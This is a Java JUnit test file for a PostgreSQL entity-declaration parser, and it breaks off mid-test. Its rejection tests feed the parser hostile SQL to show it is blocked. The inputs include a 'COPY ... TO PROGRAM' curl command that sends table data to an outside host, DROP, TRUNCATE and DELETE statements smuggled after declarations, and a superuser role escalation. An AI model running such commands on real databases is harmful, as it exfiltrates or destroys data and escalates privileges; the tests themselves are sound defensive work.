/*
 * Copyright 2026 the pg-entities authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */
package io.pgentities;

import java.io.IOException;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.tuple;

/**
 * Tests for {@link PgEntities}.
 */
class PgEntitiesTests {

	private static final String ACCEPTED = "only CREATE FUNCTION, PROCEDURE, VIEW, MATERIALIZED VIEW, TRIGGER, "
			+ "POLICY, EXTENSION, AGGREGATE, EVENT TRIGGER (and CREATE INDEX / COMMENT ON / GRANT / REVOKE / "
			+ "ALTER ... OWNER TO / ALTER EVENT TRIGGER ... ENABLE for them) may declare entities, found ";

	// Statements as the shared workload generator writes them (generate.py --scale 2), one per file there
	private static final String WORKLOAD_TOUCH = """
			CREATE OR REPLACE FUNCTION public.touch_0()
			RETURNS trigger LANGUAGE plpgsql AS $$
			BEGIN
			    NEW.last_edited = now();
			    RETURN NEW;
			END;
			$$""";

	private static final String WORKLOAD_TOTAL = """
			create or replace function public.total_0(p_qty integer, p_price numeric)
			returns numeric
			language sql immutable parallel safe
			as $$ select p_qty * p_price $$""";

	private static final String WORKLOAD_COUNT = """
			CREATE OR REPLACE FUNCTION public.count_named_0(p_name text DEFAULT 'x', p_min integer DEFAULT 0)
			RETURNS bigint
			LANGUAGE plpgsql STABLE
			AS $body$
			DECLARE
			    result bigint;
			BEGIN
			    SELECT count(*) INTO result FROM public.item_0 WHERE name = p_name AND qty >= p_min;
			    RETURN result;
			END;
			$body$""";

	private static final String WORKLOAD_PRICED = """
			CREATE OR REPLACE VIEW public.item_0_priced AS
			SELECT b.id, b.name, public.total_0(b.qty, b.price) AS total
			FROM public.item_0_base b""";

	private static final String WORKLOAD_TOP = """
			CREATE MATERIALIZED VIEW public.item_1_top AS
			SELECT name, total FROM public.item_1_summary ORDER BY total DESC LIMIT 10
			WITH NO DATA""";

	private static final String WORKLOAD_TOUCH_INSERT = """
			CREATE TRIGGER item_1_touch_insert BEFORE INSERT ON public.item_1
			FOR EACH ROW WHEN (NEW.last_edited IS NULL) EXECUTE FUNCTION public.touch_1()""";

	private static final String WORKLOAD_OWNER = """
			CREATE POLICY item_0_owner ON public.item_0
			FOR ALL TO PUBLIC
			USING (owner_name = current_user)
			WITH CHECK (owner_name = current_user AND qty >= 0)""";

	// The view of the seed tutorial, as its alembic_utils migration spells the definition
	private static final String TUTORIAL_QUERY = "select op.order_id , \n\top.product_id, \n\top.product_count,\n"
			+ "\tp.product_name, \n\tp.description, \n\tp.price as unit_price, \n"
			+ "\top.product_count * p.price as order_price\n\tfrom order_products op \njoin products p \n"
			+ "on op.product_id = p.product_id";

	@Test
	void workloadTriggerFunction() {
		PgFunction function = (PgFunction) single(WORKLOAD_TOUCH);
		assertThat(function.schema()).isEqualTo("public");
		assertThat(function.name()).isEqualTo("touch_0");
		assertThat(function.arguments()).isEmpty();
		assertThat(function.definition()).isEqualTo("""
				RETURNS trigger LANGUAGE plpgsql AS $$
				BEGIN
				    NEW.last_edited = now();
				    RETURN NEW;
				END;
				$$""");
		assertThat(function.identity()).isEqualTo("public.touch_0()");
		assertThat(function.source()).isEqualTo("sql:1");
	}

	@Test
	void workloadSqlFunctionEqualsTheFactoryDeclaration() {
		PgEntity function = single(WORKLOAD_TOTAL);
		assertThat(function).isEqualTo(PgFunction
			.of("public", "total_0(p_qty integer, p_price numeric)",
					"returns numeric\nlanguage sql immutable parallel safe\nas $$ select p_qty * p_price $$")
			.withSource("sql:1"));
		assertThat(function.identity()).isEqualTo("public.total_0(integer, numeric)");
	}

	@Test
	void workloadFunctionWithDefaultsAndATaggedDollarQuote() {
		PgFunction function = (PgFunction) single(WORKLOAD_COUNT);
		assertThat(function.arguments()).isEqualTo("p_name text DEFAULT 'x', p_min integer DEFAULT 0");
		assertThat(function.definition()).startsWith("RETURNS bigint\nLANGUAGE plpgsql STABLE\nAS $body$")
			.endsWith("RETURN result;\nEND;\n$body$");
		assertThat(function.identity()).isEqualTo("public.count_named_0(text, integer)");
	}

	@Test
	void workloadView() {
		PgEntity view = single(WORKLOAD_PRICED);
		assertThat(view).isEqualTo(PgView.of("public", "item_0_priced",
				"SELECT b.id, b.name, public.total_0(b.qty, b.price) AS total\nFROM public.item_0_base b")
			.withSource("sql:1"));
	}

	@Test
	void workloadMaterializedViewWithNoData() {
		PgMaterializedView view = (PgMaterializedView) single(WORKLOAD_TOP);
		assertThat(view.name()).isEqualTo("item_1_top");
		assertThat(view.query())
			.isEqualTo("SELECT name, total FROM public.item_1_summary ORDER BY total DESC LIMIT 10");
		assertThat(view.withData()).isFalse();
		assertThat(view.indexes()).isEmpty();
		assertThat(view.createStatement()).isEqualTo("CREATE MATERIALIZED VIEW public.item_1_top AS "
				+ "SELECT name, total FROM public.item_1_summary ORDER BY total DESC LIMIT 10\nWITH NO DATA");
	}

	@Test
	void workloadTrigger() {
		PgTrigger trigger = (PgTrigger) single(WORKLOAD_TOUCH_INSERT);
		assertThat(trigger.schema()).isEqualTo("public");
		assertThat(trigger.table()).isEqualTo("item_1");
		assertThat(trigger.name()).isEqualTo("item_1_touch_insert");
		assertThat(trigger.constraint()).isFalse();
		assertThat(trigger.definition()).isEqualTo("BEFORE INSERT ON public.item_1\n"
				+ "FOR EACH ROW WHEN (NEW.last_edited IS NULL) EXECUTE FUNCTION public.touch_1()");
		assertThat(trigger.identity()).isEqualTo("public.item_1.item_1_touch_insert");
	}

	@Test
	void workloadPolicy() {
		PgEntity policy = single(WORKLOAD_OWNER);
		assertThat(policy).isEqualTo(PgPolicy.of("public", "item_0_owner", "item_0",
				"FOR ALL TO PUBLIC\nUSING (owner_name = current_user)\n"
						+ "WITH CHECK (owner_name = current_user AND qty >= 0)")
			.withSource("sql:1"));
		assertThat(policy.identity()).isEqualTo("public.item_0.item_0_owner");
	}

	@Test
	void workloadStatementsInOneFileKeepTheirLines() {
		String sql = String.join(";\n\n", WORKLOAD_TOUCH, WORKLOAD_TOTAL, WORKLOAD_COUNT, WORKLOAD_PRICED,
				WORKLOAD_TOP, WORKLOAD_TOUCH_INSERT, WORKLOAD_OWNER) + ";\n";
		List<PgEntity> entities = PgEntities.fromSql(sql, "file db/entities/all.sql", "public");
		assertThat(entities).extracting(PgEntity::kind, PgEntity::identity, PgEntity::source)
			.containsExactly(
					tuple(EntityKind.FUNCTION, "public.touch_0()", "file db/entities/all.sql:1"),
					tuple(EntityKind.FUNCTION, "public.total_0(integer, numeric)", "file db/entities/all.sql:9"),
					tuple(EntityKind.FUNCTION, "public.count_named_0(text, integer)", "file db/entities/all.sql:14"),
					tuple(EntityKind.VIEW, "public.item_0_priced", "file db/entities/all.sql:26"),
					tuple(EntityKind.MATERIALIZED_VIEW, "public.item_1_top", "file db/entities/all.sql:30"),
					tuple(EntityKind.TRIGGER, "public.item_1.item_1_touch_insert", "file db/entities/all.sql:34"),
					tuple(EntityKind.POLICY, "public.item_0.item_0_owner", "file db/entities/all.sql:37"));
	}

	@Test
	void tutorialView() {
		PgEntity view = single("CREATE VIEW order_line_items AS\n" + TUTORIAL_QUERY + "\n;\n");
		assertThat(view).isEqualTo(PgView.of("public", "order_line_items", TUTORIAL_QUERY).withSource("sql:1"));
		assertThat(view.createStatement()).isEqualTo("CREATE VIEW public.order_line_items AS " + TUTORIAL_QUERY);
	}

	@Test
	void procedureIsIdentifiedWithItsOutArguments() {
		PgProcedure procedure = (PgProcedure) single("""
				CREATE PROCEDURE app.archive_orders(IN p_before date, OUT p_count bigint)
				LANGUAGE plpgsql
				AS $$ BEGIN DELETE FROM orders WHERE placed < p_before; GET DIAGNOSTICS p_count = ROW_COUNT; END $$;
				""");
		assertThat(procedure.schema()).isEqualTo("app");
		assertThat(procedure.name()).isEqualTo("archive_orders");
		assertThat(procedure.arguments()).isEqualTo("IN p_before date, OUT p_count bigint");
		assertThat(procedure.definition()).startsWith("LANGUAGE plpgsql\nAS $$ BEGIN").endsWith("END $$");
		assertThat(procedure.identity()).isEqualTo("app.archive_orders(date, bigint)");
	}

	@Test
	void functionWithSqlStandardBodyKeepsItsSemicolons() {
		List<PgEntity> entities = PgEntities.fromSql("""
				CREATE OR REPLACE FUNCTION grade(score integer) RETURNS text
				LANGUAGE sql
				BEGIN ATOMIC
				  SELECT CASE WHEN score >= 90 THEN 'A' WHEN score >= 80 THEN 'B' ELSE 'C' END;
				  SELECT (CASE WHEN score < 0 THEN 'invalid' END);
				END;
				CREATE PROCEDURE log_grade(score integer)
				LANGUAGE sql
				BEGIN ATOMIC
				  INSERT INTO grades VALUES (score);
				  INSERT INTO audit VALUES ('graded', now());
				END
				;
				CREATE VIEW after_bodies AS SELECT CASE WHEN true THEN 1 END AS begin;
				CREATE VIEW last_one AS SELECT 1
				""");
		assertThat(entities).extracting(PgEntity::identity, PgEntity::source)
			.containsExactly(tuple("public.grade(integer)", "sql:1"), tuple("public.log_grade(integer)", "sql:7"),
					tuple("public.after_bodies", "sql:14"), tuple("public.last_one", "sql:15"));
		assertThat(((PgFunction) entities.get(0)).definition()).isEqualTo("""
				RETURNS text
				LANGUAGE sql
				BEGIN ATOMIC
				  SELECT CASE WHEN score >= 90 THEN 'A' WHEN score >= 80 THEN 'B' ELSE 'C' END;
				  SELECT (CASE WHEN score < 0 THEN 'invalid' END);
				END""");
		assertThat(((PgProcedure) entities.get(1)).definition()).endsWith("now());\nEND");
	}

	@Test
	void viewWithClauses() {
		PgView view = (PgView) single(
				"create or replace view App.Totals (order_id, total) with (security_barrier) as\n"
						+ "  select id, sum(x) as total from t group by id\n  with local check option;");
		assertThat(view.schema()).isEqualTo("app");
		assertThat(view.name()).isEqualTo("totals");
		assertThat(view.clauses()).isEqualTo("(order_id, total) with (security_barrier)");
		assertThat(view.query()).isEqualTo("select id, sum(x) as total from t group by id\n  with local check option");
		assertThat(view.createStatement()).isEqualTo("CREATE VIEW app.totals (order_id, total) with (security_barrier) "
				+ "AS select id, sum(x) as total from t group by id\n  with local check option");
	}

	@Test
	void materializedViewWithIndexesAndComment() {
		List<PgEntity> entities = PgEntities.fromSql("""
				CREATE UNIQUE INDEX top_items_name ON top_items (name);
				CREATE MATERIALIZED VIEW IF NOT EXISTS top_items (name, total) USING heap AS
				  SELECT name, sum(qty) FROM items GROUP BY name
				  WITH DATA;
				CREATE INDEX top_items_total ON public.top_items USING btree (total DESC);
				COMMENT ON MATERIALIZED VIEW top_items IS 'Best sellers';
				""");
		assertThat(entities).hasSize(1);
		PgMaterializedView view = (PgMaterializedView) entities.get(0);
		assertThat(view.clauses()).isEqualTo("(name, total) USING heap");
		assertThat(view.query()).isEqualTo("SELECT name, sum(qty) FROM items GROUP BY name");
		assertThat(view.withData()).isTrue();
		assertThat(view.indexes()).containsExactly("CREATE UNIQUE INDEX top_items_name ON top_items (name)",
				"CREATE INDEX top_items_total ON public.top_items USING btree (total DESC)");
		assertThat(view.createIndexStatements()).containsExactly(
				"CREATE UNIQUE INDEX top_items_name ON public.top_items (name)",
				"CREATE INDEX top_items_total ON public.top_items USING btree (total DESC)");
		assertThat(view.comment()).isEqualTo("Best sellers");
		assertThat(view.source()).isEqualTo("sql:2");
	}

	@Test
	void materializedViewIndexWithoutANameIsAccepted() {
		List<PgEntity> entities = PgEntities.fromSql("""
				CREATE MATERIALIZED VIEW mv AS SELECT id FROM t;
				CREATE UNIQUE INDEX ON mv (id);
				""");
		PgMaterializedView view = (PgMaterializedView) entities.get(0);
		assertThat(view.indexes()).containsExactly("CREATE UNIQUE INDEX ON mv (id)");
		assertThat(view.createIndexStatements()).containsExactly("CREATE UNIQUE INDEX ON public.mv (id)");
	}

	@Test
	void triggersOfEveryForm() {
		List<PgEntity> entities = PgEntities.fromSql("""
				CREATE OR REPLACE TRIGGER set_updated_at
				  BEFORE UPDATE ON products
				  FOR EACH ROW EXECUTE FUNCTION touch();
				CREATE CONSTRAINT TRIGGER check_stock AFTER INSERT OR UPDATE OF qty ON shop.order_lines
				  DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION shop.check_stock();
				""", "sql", "shop");
		assertThat(entities).extracting(PgEntity::identity).containsExactly("shop.products.set_updated_at",
				"shop.order_lines.check_stock");
		PgTrigger first = (PgTrigger) entities.get(0);
		assertThat(first.constraint()).isFalse();
		assertThat(first.definition()).isEqualTo("BEFORE UPDATE ON products\n  FOR EACH ROW EXECUTE FUNCTION touch()");
		assertThat(first.createStatement()).isEqualTo("CREATE TRIGGER set_updated_at BEFORE UPDATE ON shop.products\n"
				+ "  FOR EACH ROW EXECUTE FUNCTION touch()");
		PgTrigger second = (PgTrigger) entities.get(1);
		assertThat(second.constraint()).isTrue();
		assertThat(second.createStatement()).startsWith("CREATE CONSTRAINT TRIGGER check_stock AFTER INSERT");
	}

	@Test
	void policyWithoutClauses() {
		PgPolicy policy = (PgPolicy) single("CREATE POLICY everyone ON items;");
		assertThat(policy.definition()).isEmpty();
		assertThat(policy.createStatement()).isEqualTo("CREATE POLICY everyone ON public.items");
	}

	@Test
	void unqualifiedNamesBelongToTheDefaultSchema() {
		List<PgEntity> entities = PgEntities.fromSql("""
				CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1';
				CREATE VIEW v AS SELECT f();
				CREATE POLICY p ON t USING (true);
				CREATE VIEW other.w AS SELECT 1;
				""", "sql", "Sales");
		assertThat(entities).extracting(PgEntity::schema).containsExactly("Sales", "Sales", "Sales", "other");
		assertThat(entities).extracting(PgEntity::identity)
			.containsExactly("\"Sales\".f()", "\"Sales\".v", "\"Sales\".t.p", "other.w");
	}

	@Test
	void quotedMixedCaseNamesKeepTheirCase() {
		List<PgEntity> entities = PgEntities.fromSql("""
				CREATE VIEW "Sales"."Order Lines" AS SELECT 1 AS "Qty";
				CREATE FUNCTION "Sales"."Total"("Qty" integer) RETURNS integer LANGUAGE sql AS $$ select 1 $$;
				CREATE TRIGGER "Touch" BEFORE UPDATE ON "Sales"."Orders" FOR EACH ROW EXECUTE FUNCTION f();
				CREATE POLICY "Own Rows" ON "Sales".Orders USING (true);
				CREATE VIEW Sales.Plain AS SELECT 1;
				CREATE VIEW U&"caf\\00e9" AS SELECT 1;
				""");
		assertThat(entities).extracting(PgEntity::schema, PgEntity::name)
			.containsExactly(tuple("Sales", "Order Lines"), tuple("Sales", "Total"), tuple("Sales", "Touch"),
					tuple("Sales", "Own Rows"), tuple("sales", "plain"), tuple("public", "café"));
		assertThat(entities).extracting(PgEntity::identity)
			.containsExactly("\"Sales\".\"Order Lines\"", "\"Sales\".\"Total\"(integer)",
					"\"Sales\".\"Orders\".\"Touch\"", "\"Sales\".orders.\"Own Rows\"", "sales.plain",
					"public.\"café\"");
		assertThat(((PgTrigger) entities.get(2)).table()).isEqualTo("Orders");
	}

	@Test
	void commentsAttachToTheirEntities() {
		List<PgEntity> entities = PgEntities.fromSql("""
				CREATE FUNCTION total(p_qty integer, p_price numeric) RETURNS numeric LANGUAGE sql
				  AS $$ select p_qty * p_price $$;
				CREATE FUNCTION total(p_name text) RETURNS numeric LANGUAGE sql AS $$ select 0 $$;
				CREATE PROCEDURE refresh(OUT n int) LANGUAGE sql AS $$ select 1 $$;
				CREATE VIEW v AS SELECT 1;
				CREATE TRIGGER tr BEFORE UPDATE ON items FOR EACH ROW EXECUTE FUNCTION f();
				CREATE POLICY po ON items USING (true);
				COMMENT ON FUNCTION public.total(int4, numeric(12,2)) IS 'Line total; it''s exact';
				COMMENT ON FUNCTION total(text) IS E'By name:\\n\\'x\\'';
				COMMENT ON PROCEDURE refresh(OUT integer) IS $$dollar 'quoted'$$;
				COMMENT ON VIEW v IS NULL;
				COMMENT ON TRIGGER tr ON public.items IS U&'caf\\00e9';
				COMMENT ON POLICY po ON items IS 'policy';
				""");
		assertThat(entities).extracting(PgEntity::comment).containsExactly("Line total; it's exact",
				"By name:\n'x'", "dollar 'quoted'", null, "café", "policy");
	}

	@Test
	void grantsRevokesAndOwnersAttachToTheirEntities() {
		List<PgEntity> entities = PgEntities.fromSql("""
				CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS 'select a';
				CREATE VIEW v AS SELECT 1 AS one;
				CREATE MATERIALIZED VIEW m AS SELECT 1 AS one;
				REVOKE EXECUTE ON FUNCTION f(integer) FROM PUBLIC;
				GRANT EXECUTE ON ROUTINE public.f TO app;
				GRANT SELECT (one), UPDATE ON v TO reader, "Auditor" WITH GRANT OPTION;
				ALTER VIEW v OWNER TO "Owner";
				GRANT SELECT ON TABLE m TO reader;
				ALTER MATERIALIZED VIEW m OWNER TO app;
				""");
		assertThat(entities.get(0).access()).isEqualTo(new PgAccess(null,
				List.of(new PgGrant(true, "EXECUTE", "PUBLIC", false), new PgGrant(false, "EXECUTE", "app", false))));
		assertThat(entities.get(1).access()).isEqualTo(new PgAccess("Owner",
				List.of(new PgGrant(false, "SELECT (one), UPDATE", "reader, \"Auditor\"", true))));
		assertThat(entities.get(2).access())
			.isEqualTo(new PgAccess("app", List.of(new PgGrant(false, "SELECT", "reader", false))));
	}

	@Test
	void factoriesDeclareGrantsAndOwners() {
		PgEntity view = PgView.of("public", "v", "SELECT 1").withGrant("SELECT", "reader").withOwner("app");
		assertThat(view.access()).isEqualTo(new PgAccess("app", List.of(new PgGrant(false, "SELECT", "reader", false))));
		assertThat(view.access().statements(view.kind(), view.identity()))
			.containsExactly("ALTER VIEW public.v OWNER TO app", "GRANT SELECT ON TABLE public.v TO reader");
	}

	@Test
	void rejectsGrantsAndOwnersOfUndeclaredOrUnmanagedObjects() {
		assertRejected("CREATE VIEW v AS SELECT 1;\nGRANT SELECT ON w TO reader;", 2,
				"GRANT ON TABLE public.w: no such table is declared in the same source");
		assertRejected("CREATE VIEW v AS SELECT 1;\nGRANT SELECT ON ALL TABLES IN SCHEMA public TO reader;", 2,
				"GRANT ON ALL: only privileges on an entity declared in the same source may be declared");
		assertRejected("CREATE VIEW v AS SELECT 1;\nGRANT reader TO app;", 2,
				"GRANT without ON: only privileges on an entity declared in the same source may be declared "
						+ "(role memberships belong in migrations)");
		assertRejected("CREATE VIEW v AS SELECT 1;\nALTER VIEW v OWNER TO a;\nALTER VIEW v OWNER TO b;", 3,
				"ALTER VIEW public.v OWNER TO: the entity's owner is already declared, at line 2");
		assertRejected("CREATE VIEW v AS SELECT 1;\nALTER VIEW v RENAME TO w;", 2,
				"only ALTER VIEW public.v OWNER TO role may be declared, found 'RENAME'");
	}

	@Test
	void commentWithoutArgumentsNamesTheOnlyOverload() {
		PgEntity function = single("""
				CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS 'select a';
				COMMENT ON FUNCTION f IS 'the only f';
				""");
		assertThat(function.comment()).isEqualTo("the only f");
	}

	@Test
	void overloadsAreDistinctEntities() {
		List<PgEntity> entities = PgEntities.fromSql("""
				CREATE FUNCTION f(a integer) RETURNS int LANGUAGE sql AS 'select 1';
				CREATE FUNCTION f(a text, OUT b int) RETURNS int LANGUAGE sql AS 'select 1';
				""");
		assertThat(entities).extracting(PgEntity::identity).containsExactly("public.f(integer)", "public.f(text)");
	}

	@Test
	void emptyInputDeclaresNothing() {
		assertThat(PgEntities.fromSql("")).isEmpty();
		assertThat(PgEntities.fromSql("  -- nothing here\n/* or /* here */ */ ;\n;")).isEmpty();
	}

	@Test
	void byteOrderMarkIsIgnored() {
		assertThat(PgEntities.fromSql("\uFEFFCREATE VIEW v AS SELECT 1")).extracting(PgEntity::identity)
			.containsExactly("public.v");
	}

	@Test
	void fromFileNamesTheFileInSources(@TempDir Path directory) throws IOException {
		Path file = directory.resolve("views.sql");
		Files.writeString(file, "-- views\n\n" + WORKLOAD_PRICED + ";\n", StandardCharsets.UTF_8);
		List<PgEntity> entities = PgEntities.fromFile(file);
		assertThat(entities).extracting(PgEntity::source).containsExactly("file " + file + ":3");
		assertThat(PgEntities.fromFile(file, "app")).extracting(PgEntity::schema).containsExactly("public");
	}

	@Test
	void fromFileReportsErrorsWithTheFileAndLine(@TempDir Path directory) throws IOException {
		Path file = directory.resolve("bad.sql");
		Files.writeString(file, WORKLOAD_PRICED + ";\nDROP TABLE users;\n", StandardCharsets.UTF_8);
		assertThatExceptionOfType(InvalidDeclarationException.class).isThrownBy(() -> PgEntities.fromFile(file))
			.withMessage("file " + file + ":4: " + ACCEPTED + "DROP TABLE")
			.satisfies((ex) -> assertThat(ex.getSourceName()).isEqualTo("file " + file))
			.satisfies((ex) -> assertThat(ex.getLine()).isEqualTo(4));
	}

	@Test
	void fromFileOfAMissingFileFails(@TempDir Path directory) {
		Path file = directory.resolve("missing.sql");
		assertThatExceptionOfType(PgEntitiesException.class).isThrownBy(() -> PgEntities.fromFile(file))
			.withMessage("Entity file " + file + " does not exist");
	}

	@Test
	void fromFileRejectsMalformedUtf8(@TempDir Path directory) throws IOException {
		Path file = directory.resolve("latin1.sql");
		Files.write(file, "CREATE VIEW caf\u00e9 AS SELECT 1".getBytes(StandardCharsets.ISO_8859_1));
		assertThatExceptionOfType(PgEntitiesException.class).isThrownBy(() -> PgEntities.fromFile(file))
			.withMessageStartingWith("Could not read entity file " + file + " as UTF-8");
	}

	@Test
	void fromResourceNamesTheResourceInSources(@TempDir Path directory) throws IOException {
		Files.createDirectories(directory.resolve("db/entities"));
		Files.writeString(directory.resolve("db/entities/owner.sql"), "\n" + WORKLOAD_OWNER, StandardCharsets.UTF_8);
		try (URLClassLoader classLoader = new URLClassLoader(new URL[] { directory.toUri().toURL() }, null)) {
			assertThat(PgEntities.fromResource("db/entities/owner.sql", classLoader, "public"))
				.extracting(PgEntity::identity, PgEntity::source)
				.containsExactly(tuple("public.item_0.item_0_owner", "classpath db/entities/owner.sql:2"));
			ClassLoader previous = Thread.currentThread().getContextClassLoader();
			Thread.currentThread().setContextClassLoader(classLoader);
			try {
				assertThat(PgEntities.fromResource("/db/entities/owner.sql")).extracting(PgEntity::source)
					.containsExactly("classpath /db/entities/owner.sql:2");
			}
			finally {
				Thread.currentThread().setContextClassLoader(previous);
			}
		}
	}

	@Test
	void fromResourceOfAMissingResourceFails() {
		assertThatExceptionOfType(PgEntitiesException.class)
			.isThrownBy(() -> PgEntities.fromResource("db/entities/none.sql"))
			.withMessage("Entity resource db/entities/none.sql is not on the classpath");
	}

	@Test
	void rejectsStatementsThatDoNotDeclare() {
		assertRejected("DROP TABLE users", 1, ACCEPTED + "DROP TABLE");
		assertRejected("\n  delete from users where true", 2, ACCEPTED + "DELETE");
		assertRejected("ALTER ROLE app SUPERUSER", 1, ACCEPTED + "ALTER ROLE");
		assertRejected("COPY users TO PROGRAM 'curl -d @- https://example.com'", 1, ACCEPTED + "COPY");
		assertRejected("CREATE TABLE users (id int)", 1, ACCEPTED + "CREATE TABLE");
		assertRejected("CREATE UNLOGGED TABLE users (id int)", 1, ACCEPTED + "CREATE UNLOGGED TABLE");
		assertRejected("CREATE OR REPLACE RULE r AS ON INSERT TO t DO NOTHING", 1,
				ACCEPTED + "CREATE OR REPLACE RULE");
		assertRejected("GRANT SELECT ON users TO PUBLIC", 1,
				"GRANT ON TABLE public.users: no such table is declared in the same source");
		assertRejected("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", 1, ACCEPTED + "SELECT");
		assertRejected("COMMENT ON TABLE users IS 'x'", 1, ACCEPTED + "COMMENT ON TABLE");
		assertRejected("DROP MATERIALIZED VIEW mv", 1, ACCEPTED + "DROP MATERIALIZED VIEW");
		assertRejected("(SELECT 1)", 1, ACCEPTED + "'('");
	}

	@Test
	void rejectsAStatementSmuggledAfterADeclaration() {
		assertRejected("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ select 1; $$; DROP TABLE users;", 1,
				ACCEPTED + "DROP TABLE");
		assertRejected(WORKLOAD_COUNT + ";\n\n-- cleanup\nDELETE FROM public.item_0;", 14, ACCEPTED + "DELETE");
		assertRejected("CREATE VIEW v AS SELECT 'a;b' AS \"c;d\" /* ; */;\nTRUNCATE users", 2, ACCEPTED + "TRUNCATE");
		assertRejected("CREATE VIEW v AS SELECT 1 -- note\r; DROP TABLE users;\n", 1, ACCEPTED + "DROP TABLE");
		assertRejected("CREATE VIEW v AS SELECT 1 \u2003E'\\' ; DROP TABLE users; --'", 1, ACCEPTED + "DROP TABLE");
	}

	@Test
	void rejectsTemporaryAndRecursiveViews() {
		assertRejected("CREATE TEMP VIEW v AS SELECT 1", 1, "a temporary view cannot be declared as an entity: "
				+ "it lives only as long as the session that creates it");
		assertRejected("CREATE OR REPLACE TEMPORARY VIEW v AS SELECT 1", 1, "a temporary view cannot be declared as an "
				+ "entity: it lives only as long as the session that creates it");
		assertRejected("CREATE RECURSIVE VIEW v (n) AS SELECT 1", 1,
				"CREATE RECURSIVE VIEW is not supported: declare a plain view whose query is WITH RECURSIVE ...");
		assertRejected("CREATE TEMP TABLE t (a int)", 1, ACCEPTED + "CREATE TEMP TABLE");
	}

	@Test
	void rejectsOrReplaceWherePostgresqlHasNone() {
		assertRejected("CREATE OR REPLACE MATERIALIZED VIEW mv AS SELECT 1", 1,
				"PostgreSQL has no CREATE OR REPLACE for MATERIALIZED VIEW; declare it with CREATE");
		assertRejected("CREATE OR REPLACE POLICY p ON t", 1,
				"PostgreSQL has no CREATE OR REPLACE for POLICY; declare it with CREATE");
	}

	@Test
	void rejectsMalformedDeclarations() {
		assertRejected("CREATE VIEW v SELECT 1", 1, "view v has no AS followed by its query");
		assertRejected("CREATE MATERIALIZED VIEW mv AS WITH NO DATA", 1, "materialized view mv has no query after AS");
		assertRejected("CREATE FUNCTION f RETURNS int AS 'select 1'", 1,
				"the name of function f must be followed by its argument list in parentheses, found 'RETURNS'");
		assertRejected("CREATE FUNCTION f()", 1, "function f has no definition after its argument list");
		assertRejected("CREATE FUNCTION a.b.c() RETURNS int", 1,
				"the name of the function must be name or schema.name");
		assertRejected("CREATE TRIGGER t BEFORE UPDATE FOR EACH ROW EXECUTE FUNCTION f()", 1,
				"trigger t names no table: ON table is missing");
		assertRejected("CREATE TRIGGER s.t BEFORE UPDATE ON x EXECUTE FUNCTION f()", 1,
				"the name of the trigger cannot be schema-qualified: it belongs to its table's schema");
		assertRejected("CREATE POLICY p USING (true)", 1, "the name of policy p must be followed by ON, found 'USING'");
		assertRejected("CREATE VIEW 'v' AS SELECT 1", 1, "expected the name of the view, found ''v''");
	}

	@Test
	void rejectsUnterminatedQuotesAndComments() {
		assertRejected("CREATE VIEW v AS SELECT 1;\nCREATE VIEW w AS SELECT 'open;\n", 2,
				"unterminated string constant");
		assertRejected("CREATE VIEW v AS SELECT \"open", 1, "unterminated quoted identifier");
		assertRejected("\n\nCREATE FUNCTION f() RETURNS int LANGUAGE sql AS $x$ select 1 $$", 3,
				"unterminated dollar-quoted string $x$");
		assertRejected("CREATE VIEW v AS SELECT 1 /* a /* b */", 1, "unterminated /* comment");
		assertRejected("CREATE VIEW v AS SELECT E'it\\'s", 1, "unterminated escape string constant");
	}

	@Test
	void rejectsUnclosedParenthesesAndBodies() {
		assertRejected("CREATE VIEW v AS SELECT 1;\nCREATE VIEW w AS SELECT (1; CREATE VIEW x AS SELECT 2", 2,
				"unclosed parenthesis");
		assertRejected("CREATE FUNCTION f() RETURNS int LANGUAGE sql\nBEGIN ATOMIC\n  SELECT 1;\n", 1,
				"BEGIN ATOMIC body without a matching END");
	}

	@Test
	void rejectsTwoDeclarationsOfOneEntity() {
		assertRejected("CREATE VIEW v AS SELECT 1;\n\n\nCREATE OR REPLACE VIEW public.V AS SELECT 2;", 4,
				"VIEW public.v is declared twice, at lines 1 and 4");
		assertRejected("CREATE VIEW v AS SELECT 1;\nCREATE MATERIALIZED VIEW v AS SELECT 2;", 2,
				"public.v is declared twice, at lines 1 (VIEW) and 2 (MATERIALIZED VIEW)");
		assertRejected("CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS 'select 1';\n"
				+ "CREATE FUNCTION f(b integer, OUT c text) RETURNS text LANGUAGE sql AS 'select 1';", 2,
				"FUNCTION public.f(integer) is declared twice, at lines 1 and 2");
		assertRejected("CREATE TRIGGER t BEFORE UPDATE ON a EXECUTE FUNCTION f();\n"
				+ "CREATE TRIGGER t AFTER UPDATE ON public.a EXECUTE FUNCTION f();", 2,
				"TRIGGER public.a.t is declared twice, at lines 1 and 2");
	}

	@Test
	void rejectsIndexesOfAnythingButADeclaredMaterializedView() {
		assertRejected("CREATE VIEW v AS SELECT 1 AS a;\nCREATE INDEX v_a ON v (a);", 2,
				"CREATE INDEX on public.v: only indexes of a materialized view declared in the same source may be "
						+ "declared, and this is not one (indexes of tables belong in migrations)");
		assertRejected("CREATE INDEX users_email ON users (email)", 1,
				"CREATE INDEX on public.users: only indexes of a materialized view declared in the same source may be "
						+ "declared, and this is not one (indexes of tables belong in migrations)");
		assertRejected("CREATE MATERIALIZED VIEW mv AS SELECT 1 AS a;\nCREATE INDEX CONCURRENTLY i ON mv (a);", 2,
				"CREATE INDEX CONCURRENTLY cannot run in the transaction of a plan: "
						+ "'CREATE INDEX CONCURRENTLY i ON mv (a)'");
		assertRejected("CREATE OR REPLACE INDEX i ON mv (a)", 1,
